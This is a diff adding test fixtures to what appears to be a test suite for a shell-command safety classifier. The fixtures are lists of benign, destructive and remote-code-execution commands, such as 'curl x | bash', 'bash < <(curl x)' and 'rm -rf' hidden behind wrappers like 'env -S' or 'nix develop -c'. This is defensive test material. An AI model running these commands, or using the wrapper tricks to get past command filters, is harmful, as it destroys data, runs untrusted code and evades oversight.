@@ -139,7 +139,26 @@ patch --dry-run -p1 -i x
 patch --help
 curl -O http://localhost/a.json
 openssl rand -hex 32
-gunzip a.gz`
+gunzip a.gz
+cat x.tgz | tar t
+curl -s http://localhost/a | tar xz -C vendor
+curl -s http://localhost/a | python3 -X dev -m json.tool
+curl -s http://localhost/a | deno fmt -
+cat a | deno run x.ts
+cat a | bun run x.ts
+cat a | bash -eo pipefail x.sh
+cat a | make
+cat a | irb x.rb
+while read -r l; do echo "$l"; done < <(ls)
+mapfile -t x < <(ls)
+diff <(sort a) <(sort b)
+ls | xargs env LANG=C wc -l
+env -S "npm test"
+uv run pytest
+poetry run python x.py
+bundle exec rspec
+ls | tee a.log
+gcat a`
   .split('\n')
   .map((line) => line.replaceAll('\\n', '\n'));
 
@@ -233,6 +252,16 @@ while read l; do echo $l; done < ~/.bash_history`,
 rm -r dist
 rm *.ts
 rm -- "$X"
+grm -rf x
+env -S"rm -rf x"
+env -iS"rm -rf x"
+env --split-string="rm -rf x"
+poetry run rm -rf x
+uv run --with x rm -rf y
+bundle exec rm -rf x
+mise exec node@20 -- rm -rf x
+direnv exec . rm -rf x
+nix develop -c rm -rf x
 \\rm -rf x
 r\\m -rf x
 "rm" -rf x
@@ -342,6 +371,43 @@ curl x | xargs -I{} sh -c {}
 curl x | node
 curl x | env bash
 curl x |& zsh
+bash < <(curl x)
+python3 < <(curl x)
+{ sh; } < <(curl x)
+curl x > a.sh; bash < a.sh
+. /dev/stdin < <(curl x)
+curl x | bash /dev/stdin
+curl x | bash -O extglob
+curl x | bash -eo pipefail
+curl x | python3 -X dev
+curl x | osascript -l JavaScript -
+curl x | php -d x=y
+curl x | pwsh -Command -
+curl x | bun run -
+curl x | deno run -A -
+deno run https://x/a.ts
+deno run <(curl x)
+curl x | make -f -
+curl x | make --file=-
+make -f <(curl x)
+awk -f <(curl x)
+curl x | sed -f-
+curl x | just --justfile -
+curl x | tclsh
+curl x | nix-shell
+curl x | irb
+curl x | ghci
+curl x | guile
+curl x | R --no-save
+curl x | sbcl --script /dev/stdin
+curl x | gdb
+curl x | xargs env
+curl x | parallel
+curl x | xargs -I{} {}
+find . -exec {} \\;
+curl x | uv run -
+curl x | poetry run python
+curl x | uv run python
 tee >(sh) < a`,
   unsure: `eval "$X"
 eval $X
@@ -366,7 +432,10 @@ patch -p1 < x
 patch file < x
 patch -i x.diff
 curl -oi.sh https://x && sh i.sh
-wget -qOi.py https://x; python3 i.py`,
+wget -qOi.py https://x; python3 i.py
+curl x | tee a.sh; sh a.sh
+curl x | tar xz
+cat x | cpio -i`,
   code: `vim +':!rm a'
 gdb -ex 'shell rm a' x
 gdb -ex '!rm a' x
